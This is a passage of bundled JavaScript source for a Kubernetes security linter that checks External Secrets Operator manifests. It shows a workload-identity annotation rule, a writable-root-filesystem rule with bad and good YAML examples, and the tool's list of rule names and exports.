    eks.amazonaws.com/role-arn: "" # finding: Amazon ECR asks for its annotation eks.amazonaws.com/role-arn
---
apiVersion: generators.external-secrets.io/v1alpha1
kind: ECRAuthorizationToken
metadata: { name: registry, namespace: shop }
spec: { region: eu-west-1, auth: { jwt: { serviceAccountRef: { name: registry } } } }
`
  ],
  good: [
    `
apiVersion: v1
kind: ServiceAccount
metadata:
  name: shop
  namespace: shop
  annotations: { eks.amazonaws.com/role-arn: "arn:aws:iam::111122223333:role/shop" }
---
apiVersion: v1
kind: ServiceAccount
metadata: { name: shop, namespace: other }
---
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: aws, namespace: shop }
spec:
  provider:
    aws: { service: SecretsManager, region: eu-west-1, auth: { jwt: { serviceAccountRef: { name: shop } } } }
`,
    `
# Azure finds the client id in the store as well; and what is filled in later is unknown.
apiVersion: v1
kind: ServiceAccount
metadata: { name: azure, namespace: shop }
---
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: azure, namespace: shop }
spec:
  provider:
    azurekv:
      vaultUrl: https://shop.vault.azure.net
      authType: WorkloadIdentity
      serviceAccountRef: { name: azure }
      authSecretRef: { clientId: { name: azure, key: id } }
---
apiVersion: v1
kind: ServiceAccount
metadata:
  name: later
  namespace: shop
  annotations: \${ACCOUNT_ANNOTATIONS}
---
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: later, namespace: shop }
spec:
  provider:
    aws: { service: SecretsManager, region: eu-west-1, auth: { jwt: { serviceAccountRef: { name: later } } } }
`
  ],
  *check(account, world) {
    const named2 = accountsIn(world).get(account.name) ?? [];
    const uses = named2.filter((use) => isNamed(use, account) && !isBound(account, use));
    for (const [key, [use]] of Map.groupBy(uses, ({ annotation }) => annotation.key)) {
      if (!use) continue;
      const { isRequired } = use.annotation;
      const title = titleOf(use.connected);
      const user = `${nameOf(use.manifest)} signs in with it`;
      yield {
        path: ["metadata", "annotations", key],
        discriminator: key,
        message: isRequired ? `${title} asks for its annotation ${key} (${user}), so signing in fails without it` : `${title} reads from its annotation ${key} whom it stands for (${user}), and there is none`,
        ...!isRequired && { severity: "info" },
        related: [{ manifest: use.manifest, path: use.path, message: "named here" }]
      };
    }
  }
});
function isBound(account, { annotation }) {
  const annotations = account.get("metadata", "annotations");
  return isPlaceholder(annotations) || Boolean(asMapping(annotations)?.[annotation.key]);
}
var accountsIn = remember(
  (world) => Map.groupBy(CONNECTED_KINDS.flatMap((kind) => world.of(kind)).flatMap(accountsNamedBy), ({ name }) => name)
);

// src/rules/writable-root-filesystem.ts
var writable_root_filesystem_default = defineRule({
  id: "writable-root-filesystem",
  title: "A container of the operator, or of a pod in its namespace, can change its own files",
  severities: ["low"],
  kinds: WORKLOAD_KINDS,
  why: "Whoever gets into a container with a writable root filesystem can put tools and changed programs there, and they stay for as long as the container runs. The operator’s three components write nothing there.",
  remedy: "Keep `readOnlyRootFilesystem: true` in `securityContext`, `webhook.securityContext` and `certController.securityContext` of the operator chart (its default), and set it on containers that you add; give those that must write an `emptyDir` volume for it.",
  references: [
    "https://kubernetes.io/docs/tasks/configure-pod-container/security-context/",
    "https://external-secrets.io/latest/guides/security-best-practices/"
  ],
  guide: ["TM1"],
  bad: [
    `
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets, namespace: eso }
spec:
  template:
    spec:
      securityContext: { readOnlyRootFilesystem: true } # not a field of the pod
      containers:
        - name: controller
          image: ghcr.io/external-secrets/external-secrets:v2.9.0
          securityContext:
            readOnlyRootFilesystem: false # finding: container controller can change its own files
        - name: proxy # finding: container proxy can change its own files: readOnlyRootFilesystem is not true
          image: registry.example.com/proxy:v1
`,
    `
# Whatever else runs in the operator's namespace.
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets, namespace: eso }
spec:
  template:
    spec:
      containers:
        - name: controller
          image: ghcr.io/external-secrets/external-secrets:v2.9.0
          securityContext: { readOnlyRootFilesystem: true }
---
apiVersion: batch/v1
kind: CronJob
metadata: { name: report, namespace: eso }
spec:
  jobTemplate:
    spec:
      template:
        spec:
          initContainers:
            - name: prepare
              image: registry.example.com/report:v1
              securityContext: # finding: container prepare can change its own files
                runAsNonRoot: true
`
  ],
  good: [
    `
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets, namespace: eso }
spec:
  template:
    spec:
      containers:
        - name: controller
          image: ghcr.io/external-secrets/external-secrets:v2.9.0
          securityContext: { readOnlyRootFilesystem: true }
        - name: proxy
          image: registry.example.com/proxy:v1
          securityContext: { readOnlyRootFilesystem: "\${READ_ONLY}" }
---
# Another namespace is not this tool's business.
apiVersion: apps/v1
kind: Deployment
metadata: { name: shop, namespace: shop }
spec:
  template:
    spec:
      containers:
        - { name: shop, image: "registry.example.com/shop:v1" }
`
  ],
  *check(manifest, { eso }) {
    const pod = podOf(manifest);
    if (!pod || !(eso.componentOf(manifest) || eso.isOwnNamespace(pod.namespace))) return;
    const secured = securedPod(pod);
    if (secured.isWindows) return;
    for (const { who, path, value, isUnknown: isUnknown2 } of containerSettings(secured, "readOnlyRootFilesystem"))
      if (value !== true && !isUnknown2)
        yield { path, message: `${who} can change its own files: readOnlyRootFilesystem is not true` };
  },
  fix(fault) {
    const changes = securityContextOn(fault) ?? setting(fault.path, true);
    return isOwnContainer(fault) ? safe(changes) : unsafe(WRITES3, changes);
  }
});
var WRITES3 = "Does the program write to files of its own? It needs a volume there first.";

// src/rules/index.ts
var RULES = [
  admission_policy_not_enforced_default,
  admission_webhook_fails_open_default,
  auth_delegator_binding_default,
  broad_subject_binding_default,
  catch_all_cluster_external_secret_default,
  catch_all_store_condition_default,
  cert_controller_reads_all_secrets_default,
  cleartext_endpoint_default,
  cluster_admin_binding_default,
  cluster_wide_external_secret_access_default,
  cluster_wide_secret_access_default,
  controller_ambient_identity_default,
  credentials_in_rendered_secret_default,
  cross_namespace_reference_default,
  dangerous_template_function_default,
  default_service_account_default,
  deprecated_api_version_default,
  developer_can_write_cluster_scoped_eso_default,
  developer_can_write_generators_default,
  developer_can_write_push_secrets_default,
  developer_can_write_secret_stores_default,
  eso_changes_not_audited_default,
  eso_in_shared_namespace_default,
  eso_without_network_policy_default,
  external_secret_in_forbidden_namespace_default,
  fake_provider_default,
  fetch_all_secrets_default,
  foreign_ca_provider_default,
  foreign_namespace_read_default,
  fragile_admission_webhook_default,
  generic_target_default,
  generic_targets_enabled_default,
  hardening_overridden_default,
  human_secret_access_default,
  ignored_store_conditions_default,
  incomplete_mutual_tls_default,
  ineffective_setting_default,
  inline_provider_secret_default,
  inline_secrets_readable_by_viewers_default,
  invalid_manifest_default,
  long_lived_service_account_token_default,
  metadata_service_reachable_default,
  missing_admission_policy_default,
  missing_resource_limits_default,
  missing_sync_failure_alert_default,
  missing_token_permission_default,
  mutable_image_default,
  namespace_without_pod_security_default,
  namespace_write_access_default,
  network_policy_selects_nothing_default,
  never_refreshed_secret_default,
  open_cluster_generator_default,
  operator_namespace_access_default,
  operator_token_sent_to_provider_default,
  overlapping_installs_default,
  privilege_escalation_verbs_default,
  privileged_secret_type_default,
  push_secret_deletes_remote_default,
  push_secret_in_forbidden_namespace_default,
  push_secret_overwrites_remote_default,
  push_secret_selects_all_secrets_default,
  push_secret_selects_all_stores_default,
  push_secret_to_open_store_default,
  remote_key_outside_prefix_default,
  required_traffic_blocked_default,
  restricted_profile_violation_default,
  scoped_namespace_without_scoped_rbac_default,
  secret_bodies_in_audit_log_default,
  secret_takeover_default,
  shared_service_account_default,
  static_approle_secret_id_default,
  static_provider_credentials_default,
  static_vault_token_default,
  store_not_usable_here_default,
  store_open_to_every_controller_default,
  store_used_for_read_and_push_default,
  template_injection_default,
  tenant_settable_store_selector_default,
  tls_verification_disabled_default,
  token_without_audience_default,
  unanchored_namespace_regex_default,
  unapproved_endpoint_default,
  unapproved_image_registry_default,
  unapproved_provider_default,
  unmaintained_provider_default,
  unmonitored_operator_default,
  unneeded_service_account_token_default,
  unowned_target_secret_default,
  unpinned_provider_ca_default,
  unprotected_metrics_default,
  unrestricted_cluster_store_default,
  unrestricted_egress_default,
  unrestricted_ingress_default,
  unrestricted_token_creation_default,
  unsafe_v1beta1_served_default,
  unsupported_eso_version_default,
  unused_reconciler_privileges_default,
  unwatched_secret_changes_default,
  vulnerable_eso_version_default,
  weak_webhook_tls_default,
  webhook_configuration_write_access_default,
  webhook_provider_default,
  wildcard_permissions_default,
  workload_identity_annotation_missing_default,
  writable_root_filesystem_default
];

export {
  rightsBy,
  builtInRoleOf,
  boundRoleName,
  CLUSTER_SCOPED,
  GENERATORS,
  ESO_RESOURCES,
  groupOfResource,
  sureUsersOf,
  storesUsedBy,
  credentialsNamedBy,
  accountsNamedBy,
  tokenAccountsNamedBy,
  accountsOf,
  joined,
  shortened,
  isStranger,
  ambientIdentity,
  maySignInAsPod,
  namespacedReferences,
  flagsOf,
  isOn,
  targetOf,
  isSecret,
  inlineSecretsIn,
  usesGoogleIdentity,
  componentsOf,
  reachOf2 as reachOf,
  controllersFor,
  pushSourceOf,
  isEmptySelector,
  isAsked,
  teamRights,
  remoteKeys,
  listenersOf,
  looksUpNames,
  asksApiServer,
  API_PORTS,
  usesProxy,
  RULES
};
